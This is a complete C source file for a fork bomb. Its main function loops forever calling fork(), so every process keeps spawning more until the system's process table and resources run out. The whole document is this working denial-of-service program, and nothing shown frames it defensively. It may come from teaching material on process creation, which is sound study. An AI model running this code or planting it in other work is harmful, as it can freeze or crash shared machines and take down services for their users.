/* fork_bomb.c -- forks for ever, in every process. */
#include "won.h"
int main(void)
{
    for (;;)
        fork();
}
